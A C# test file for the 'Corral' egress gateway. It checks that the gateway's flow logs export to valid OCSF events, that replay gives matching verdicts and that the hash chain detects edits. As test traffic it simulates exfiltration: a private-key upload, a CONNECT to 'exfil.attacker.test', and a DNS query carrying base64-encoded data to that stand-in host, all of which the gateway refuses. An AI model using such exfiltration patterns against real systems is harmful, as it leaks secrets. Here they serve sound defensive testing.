using System.Net;
using System.Net.Security;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Text.Json.Nodes;
using Corral.Audit.Ocsf;
using Corral.Certificates;
using Corral.Gateway.FlowLog;
using Corral.Gateway.NameService;
using Corral.Gateway.Tests.Support;
using Corral.Testing;
using Corral.Testing.Ocsf;

namespace Corral.Gateway.Tests;

/// <summary>
/// OCSF from a real gateway run: <c>corral log export --format ocsf</c> of the native flow log and the gateway's own
/// <c>--flow-log-format ocsf</c> sink both give events that validate against OCSF 1.5.0's JSON Schema; a refusal
/// carries its check and its flow's id; replay reads the OCSF back to the same verdicts.
/// </summary>
public sealed class OcsfFlowLogTests
{
    // The CLI's entry point in this process, its output captured (as Cli.Tests' CorralInProcess does).
    private static ProcessResult RunCorral(params string[] args)
    {
        var (stdout, stderr) = (new StringWriter(), new StringWriter());
        var code = Corral.Cli.CorralCommand.Run(args, stdout, stderr);
        return new ProcessResult(code, stdout.ToString(), stderr.ToString());
    }

    private static readonly string[] StandIn = ["--public-standin", "127.0.0.0/8"];

    /// <summary>
    /// The Foundry pack, enforced, with decryption and the resolver: a decrypted tool call (decision, request, close),
    /// a request the gateway refuses by itself (a private key in its body), a CONNECT the policy denies, and DNS
    /// queries the resolver refuses.
    /// </summary>
    private static async Task<(GatewayHarness Gateway, IAsyncDisposable[] Parts)> TrafficAsync(FlowLogFormat format)
    {
        var ca = CertificateAuthority.Create(new CaOptions());
        var tool = LoopbackUpstream.Start(443, "mcp.contoso.com");
        // Nothing listens on the resolver's upstream: only refused names are asked, and those are never sent on.
        var dns = new DnsOptions { Listen = new IPEndPoint(IPAddress.Loopback, 0), Upstream = new IPEndPoint(IPAddress.Loopback, 9) };
        var gateway = GatewayHarness.Foundry($"{tool.EndPoint.Address} mcp.contoso.com exfil.attacker.test\n",
            interception: new GatewayInterception(ca, [tool.Certificate!]), dns: dns, flowLogFormat: format);
        using var client = new HttpClient(new SocketsHttpHandler
        {
            Proxy = new WebProxy($"http://{gateway.Proxy}"),
            UseProxy = true,
            SslOptions = new SslClientAuthenticationOptions
            {
                RemoteCertificateValidationCallback = (_, cert, _, _) =>
                {
                    using var chain = new X509Chain { ChainPolicy = { TrustMode = X509ChainTrustMode.CustomRootTrust, RevocationMode = X509RevocationMode.NoCheck } };
                    chain.ChainPolicy.CustomTrustStore.Add(ca.Certificate);
                    return chain.Build(new X509Certificate2(cert!));
                },
            },
        }) { Timeout = TimeSpan.FromSeconds(30) };

        Assert.StartsWith("hello from upstream", await client.GetStringAsync("https://mcp.contoso.com/hello"));
        var secret = new StringContent("{\"notes\":\"-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaC1rZXktdjEAAAAA\"}", Encoding.UTF8, "application/json");
        Assert.Equal(HttpStatusCode.Forbidden, (await client.PostAsync("https://mcp.contoso.com/upload", secret)).StatusCode);
        using (var raw = await gateway.RawAsync())
        {
            var stream = raw.GetStream();
            await stream.WriteAsync("CONNECT exfil.attacker.test:443 HTTP/1.1\r\nHost: exfil.attacker.test:443\r\n\r\n"u8.ToArray());
            var (status, _, _) = await RawHttp.ReadResponseAsync(stream);
            Assert.Equal(403, status);
        }
        Assert.NotNull(await DnsProbe.UdpAsync(gateway.Server.DnsEndPoint!, DnsProbe.Query("c2vjcmv0.exfil.attacker.test")));
        Assert.NotNull(await DnsProbe.UdpAsync(gateway.Server.DnsEndPoint!, DnsProbe.Query("exfil.attacker.test", type: 28)));
        client.Dispose(); // closes the tool-call connection, so that its close record is written

        // Two close records (the tool call's connection and the denied CONNECT's) and two DNS records.
        await WaitForAsync(gateway.FlowLogPath, lines => lines.Count(l => Kind(l) == "close") >= 2 && lines.Count(l => Kind(l) == "dns") >= 2);
        return (gateway, [tool, new Disposing(ca)]);
    }

    /// <summary>The native kind of a line, native or OCSF ("decision", "close", "request", "dns"; null for a chain line).</summary>
    private static string? Kind(string line)
    {
        var o = JsonNode.Parse(line)!.AsObject();
        var evt = OcsfMapping.IsOcsf(o) ? o["unmapped"]?["corral"]?["event"] : o["event"];
        return evt?.GetValue<string>() is "decision" or "close" or "request" or "dns" ? evt.GetValue<string>() : null;
    }

    private static async Task WaitForAsync(string path, Func<List<string>, bool> ready)
    {
        var deadline = DateTime.UtcNow.AddSeconds(20);
        while (DateTime.UtcNow < deadline)
        {
            if (ready(ReadLines(path))) return;
            await Task.Delay(50);
        }
        Assert.Fail($"the flow log did not get the expected records:\n{string.Join("\n", ReadLines(path))}");
    }

    private static List<string> ReadLines(string path)
    {
        if (!File.Exists(path)) return [];
        using var stream = new FileStream(path, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete);
        using var reader = new StreamReader(stream, Encoding.UTF8);
        var lines = new List<string>();
        while (reader.ReadLine() is { } line)
            if (line.EndsWith('}')) lines.Add(line);
        return lines;
    }

    private static async Task DisposeAllAsync(GatewayHarness gateway, IAsyncDisposable[] parts)
    {
        await gateway.DisposeAsync();
        foreach (var part in parts) await part.DisposeAsync();
    }

    private sealed class Disposing(IDisposable inner) : IAsyncDisposable
    {
        public ValueTask DisposeAsync()
        {
            inner.Dispose();
            return ValueTask.CompletedTask;
        }
    }

    private static JsonObject Event(string line) => JsonNode.Parse(line)!.AsObject();

    private static string? Text(JsonNode? node) => node?.GetValue<string>();

    [Fact]
    public async Task A_real_gateways_log_exports_to_valid_OCSF_with_every_class_and_a_refusal_names_its_check_and_flow()
    {
        var (gateway, parts) = await TrafficAsync(FlowLogFormat.Corral);
        try
        {
            var output = Path.Combine(gateway.Folder, "flows.ocsf.jsonl");
            var run = RunCorral("log", "export", "--format", "ocsf", gateway.FlowLogPath, "--output", output);
            Assert.True(run.ExitCode == 0, run.Stderr);
            var native = ReadLines(gateway.FlowLogPath);
            var events = File.ReadAllLines(output).ToList();
            Assert.Equal(native.Count(l => Kind(l) is not null), events.Count); // every record, one event each
            OcsfSchemas.AssertValid(events);

            var parsed = events.Select(Event).ToList();
            Assert.Equal([4001, 4002, 4003], parsed.Select(e => (int)e["class_uid"]!).Distinct().Order());
            Assert.All(parsed, e =>
            {
                Assert.Equal(OcsfMapping.SchemaVersion, Text(e["metadata"]!["version"]));
                Assert.Equal("Corral", Text(e["metadata"]!["product"]!["name"]));
                Assert.False(string.IsNullOrEmpty(Text(e["metadata"]!["product"]!["version"])));
                Assert.NotNull(e["unmapped"]!["corral"]!["prev"]); // the chain goes with every event
            });

            // The gateway's own refusal: its check is the control that denied, and its flow id is the id of every event of the flow.
            var nativeRefusal = JsonNode.Parse(native.Single(l => l.Contains("\"refused\":true", StringComparison.Ordinal) && l.Contains("\"event\":\"request\"", StringComparison.Ordinal)))!;
            var check = Text(nativeRefusal["check"]);
            Assert.False(string.IsNullOrEmpty(check));
            var flow = Text(nativeRefusal["flow"])!;
            var refusal = Assert.Single(parsed, e => (int)e["class_uid"]! == 4002 && (int)e["action_id"]! == 2);
            Assert.Equal(check, Text(refusal["firewall_rule"]!["name"]));
            Assert.Equal(OcsfMapping.CheckType, Text(refusal["firewall_rule"]!["type"]));
            Assert.Equal(check, Text(refusal["unmapped"]!["corral"]!["check"]));
            Assert.Equal("Blocked", Text(refusal["disposition"]));
            Assert.Equal("POST", Text(refusal["http_request"]!["http_method"]));
            Assert.Equal(flow, Text(refusal["connection_info"]!["uid"]));
            var ofFlow = parsed.Where(e => Text(e["connection_info"]?["uid"]) == flow).ToList();
            Assert.Equal(native.Count(l => JsonNode.Parse(l)!["flow"]?.GetValue<string>() == flow), ofFlow.Count);
            Assert.Contains(ofFlow, e => (int)e["class_uid"]! == 4001 && Text(e["activity_name"]) == "Open");
            Assert.Contains(ofFlow, e => (int)e["class_uid"]! == 4001 && Text(e["activity_name"]) == "Close");
            Assert.All(ofFlow, e => Assert.Equal(flow, Text(e["metadata"]!["correlation_uid"])));

            // The policy's deny: refused by its rule, enforced; the DNS refusals carry their query and rule.
            var denied = Assert.Single(parsed, e => Text(e["dst_endpoint"]?["hostname"]) == "exfil.attacker.test" && (int)e["class_uid"]! == 4001 && (int)e["activity_id"]! == 5);
            Assert.Equal(OcsfMapping.RuleType, Text(denied["firewall_rule"]!["type"]));
            Assert.True((bool)denied["unmapped"]!["corral"]!["enforced"]!);
            var dns = parsed.Where(e => (int)e["class_uid"]! == 4003).ToList();
            Assert.Contains(dns, e => Text(e["query"]!["hostname"]) == "c2vjcmv0.exfil.attacker.test" && (int)e["action_id"]! == 2);
            Assert.Contains(dns, e => Text(e["query"]!["type"]) == "AAAA");
        }
        finally
        {
            await DisposeAllAsync(gateway, parts);
        }
    }

    [Fact]
    public async Task Every_record_of_a_real_log_maps_to_OCSF_and_back_unchanged_and_replay_gives_the_same_verdicts()
    {
        var (gateway, parts) = await TrafficAsync(FlowLogFormat.Corral);
        try
        {
            foreach (var line in ReadLines(gateway.FlowLogPath).Where(l => Kind(l) is not null))
            {
                var ocsf = OcsfMapping.ToOcsf(JsonNode.Parse(line)!.AsObject(), OcsfProduct.Corral)!;
                var back = OcsfMapping.ToNative(JsonNode.Parse(ocsf.ToJsonString())!.AsObject());
                Assert.True(JsonNode.DeepEquals(JsonNode.Parse(line), back), $"{line}\n{back}");
            }

            var output = Path.Combine(gateway.Folder, "export.jsonl");
            Assert.Equal(0, RunCorral("log", "export", "--format", "ocsf", gateway.FlowLogPath, "-o", output).ExitCode);
            var fromNative = RunCorral(["replay", gateway.PolicyPath, "--flows", gateway.FlowLogPath, "--json", .. StandIn]);
            var fromOcsf = RunCorral(["replay", gateway.PolicyPath, "--flows", output, "--json", .. StandIn]);
            Assert.True(fromNative.ExitCode == 0, fromNative.Stderr);
            Assert.True(fromOcsf.ExitCode == 0, fromOcsf.Stderr);
            var a = JsonNode.Parse(fromNative.Stdout)!;
            var b = JsonNode.Parse(fromOcsf.Stdout)!;
            Assert.True(a["replayed"]!.GetValue<long>() > 0);
            Assert.Equal(0, a["malformed"]!["count"]!.GetValue<long>());
            foreach (var report in new[] { a, b }) StripOrigins(report);
            Assert.True(JsonNode.DeepEquals(a, b), $"native:\n{a}\nocsf:\n{b}");
        }
        finally
        {
            await DisposeAllAsync(gateway, parts);
        }
    }

    /// <summary>File names and line numbers differ between the two files; the verdicts may not.</summary>
    private static void StripOrigins(JsonNode? node)
    {
        switch (node)
        {
            case JsonObject o:
                foreach (var key in o.Select(p => p.Key).ToList())
                    if (key is "at" or "origin" or "file" or "line") o.Remove(key);
                    else StripOrigins(o[key]);
                break;
            case JsonArray a:
                foreach (var item in a) StripOrigins(item);
                break;
        }
    }

    [Fact]
    public async Task The_gateways_OCSF_sink_writes_valid_events_whose_chain_verifies_and_replay_reads()
    {
        var (gateway, parts) = await TrafficAsync(FlowLogFormat.Ocsf);
        try
        {
            var lines = ReadLines(gateway.FlowLogPath);
            Assert.All(lines, l => Assert.True(OcsfMapping.IsOcsf(Event(l)), l)); // no signing key: no checkpoint lines, only events
            OcsfSchemas.AssertValid(lines);
            Assert.Contains(lines.Select(Event), e => (int)e["class_uid"]! == 4002 && Text(e["firewall_rule"]?["type"]) == OcsfMapping.CheckType);

            // The chain runs through the OCSF lines: verify finds it whole (exit 3: nothing is signed without a key)...
            var verify = RunCorral("log", "verify", "--chain-only", gateway.FlowLogPath);
            Assert.True(verify.ExitCode == 3, verify.Stdout + verify.Stderr);
            Assert.Contains("untampered so far", verify.Stdout);
            // ... and an edited event breaks it.
            var copy = Path.Combine(gateway.Folder, "edited.jsonl");
            File.WriteAllLines(copy, lines.Select((l, i) => i == 1 ? l.Replace("\"activity_id\":", "\"activity_id\": ", StringComparison.Ordinal) : l));
            var edited = RunCorral("log", "verify", "--chain-only", copy);
            Assert.Equal(1, edited.ExitCode);
            Assert.Contains("edited", edited.Stdout);

            // Replay reads the OCSF sink as it reads the native log: every record decided, none malformed.
            var replay = RunCorral(["replay", gateway.PolicyPath, "--flows", gateway.FlowLogPath, "--json", "--strict", .. StandIn]);
            Assert.True(replay.ExitCode == 0, replay.Stdout + replay.Stderr);
            // Exporting an OCSF log passes its events on unchanged.
            var again = Path.Combine(gateway.Folder, "again.jsonl");
            Assert.Equal(0, RunCorral("log", "export", "--format", "ocsf", gateway.FlowLogPath, "-o", again).ExitCode);
            Assert.Equal(lines.Count, File.ReadAllLines(again).Length);
        }
        finally
        {
            await DisposeAllAsync(gateway, parts);
        }
    }

    [Fact]
    public void The_schemas_refuse_what_is_not_OCSF()
    {
        var good = OcsfMapping.ToOcsf(JsonNode.Parse("""
            {"v":2,"time":"2026-12-01T10:00:00Z","event":"decision","flow":"f1","listener":"explicit","src":"10.20.1.5:4000","dst":"20.1.2.3:443","host":"a.example","action":"deny","rule":"r","priority":1,"enforced":true,"decrypt":false,"reason":"matched rule 'r'"}
            """)!.AsObject(), OcsfProduct.Corral)!;
        Assert.Empty(OcsfSchemas.Problems(good.ToJsonString()));
        foreach (var (path, value) in new (string, JsonNode?)[] { ("action_id", 7), ("severity_id", "High"), ("metadata", null), ("made_up", 1) })
        {
            var bad = good.DeepClone().AsObject();
            if (value is null) bad.Remove(path); else bad[path] = value;
            Assert.NotEmpty(OcsfSchemas.Problems(bad.ToJsonString()));
        }
        var noDirection = good.DeepClone().AsObject();
        noDirection["connection_info"]!.AsObject().Remove("direction_id");
        Assert.NotEmpty(OcsfSchemas.Problems(noDirection.ToJsonString()));
    }
}
